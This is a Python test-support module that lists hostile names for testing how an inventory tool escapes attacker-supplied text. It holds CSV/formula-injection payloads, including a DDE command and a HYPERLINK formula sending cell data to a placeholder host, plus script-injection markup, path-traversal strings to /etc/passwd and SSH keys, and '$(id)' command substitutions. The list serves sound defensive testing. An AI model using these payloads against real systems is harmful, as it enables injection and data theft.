# SPDX-FileCopyrightText: 2026 Métropole de Lyon and the Veilleuse developers
# SPDX-License-Identifier: EUPL-1.2
"""List hostile names that an attacker may put into an inventory. docs/guarantees.md S14 to S16."""

from __future__ import annotations

from collections.abc import Mapping
from itertools import product

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("https://example.invalid/?"&A1,"x")',
    "{=1+1}",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "\t\N{FULLWIDTH EQUALS SIGN}1+1",
    "\r\N{FULLWIDTH EQUALS SIGN}1+1",
    "DSI;=1+1",
    "a,=1+1",
    "https://example.invalid/",
    "mailto:x@example.invalid",
    "internal:Lignes!A1",
    "<r><t>rich</t></r>",
    "_x003D_1+1",
    "12345678901234567890",
    "1e5",
    "2025-01-01",
    "TRUE",
    "#REF!",
)
MARKUP = (
    "<script>document.title='hacked'</script>",
    "<img src=x onerror=\"document.title='hacked'\">",
    "<svg/onload=document.title='hacked'>",
    "</svg><script>document.title='hacked'</script>",
    "</style><script>document.title='hacked'</script>",
    "</title><script>document.title='hacked'</script>",
    "\"><script>document.title='hacked'</script>",
    "' onmouseover='document.title=1",
    "]]>",
    "<![CDATA[x]]>",
    "<!-- x",
    "&lt;script&gt;",
    "&#x3c;b&#x3e;",
    "<iframe src=https://example.invalid></iframe>",
    "<link rel=stylesheet href=file:///etc/passwd>",
    "<a href=\"javascript:document.title='hacked'\">x</a>",
    "{{ 7*7 }}{% raw %}",
    "%s %(x)s {0} {x!r}",
    "</table></main></body></html>",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\x",
    "\\\\server\\share",
    "~/.ssh/id_ed25519",
    "$(id)",
    "`id`",
    "con",
    "a/b",
    "-o",
    ".",
    "..",
    "",
)
SIGNS = (
    "NUL \x00 x",
    "\x1b[31mred",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\ud800 lone \udfff",
    "\ufffe\uffff",
    "\x85next\u2028line\u2029",
    "\N{GRINNING FACE}\u200d\N{PERSONAL COMPUTER}",
    "e\u0301" * 20,
    "\U000e0041\U000e0042",
    "[]:*?/\\",
    "'quoted'",
    "x" * 10_240,
    "<" * 10_240,
)
EVERYTHING = (*FORMULAS, *MARKUP, *PATHS, *SIGNS)
PLACES = ("entity", "site", "device_class", "source", "note", "head", "title")
"""Places at which tests/support/reported.py takes a text that somebody else wrote."""


def combined() -> list[str]:
    """Return all names, and each path followed by other names: more than 500."""
    both = [f"{one}{other}" for one, other in product(PATHS, (*MARKUP, *FORMULAS[:12]))]
    return [*EVERYTHING, *both]


def everywhere(name: str) -> Mapping[str, str]:
    """Return place → the same name for every place."""
    return dict.fromkeys(PLACES, name)
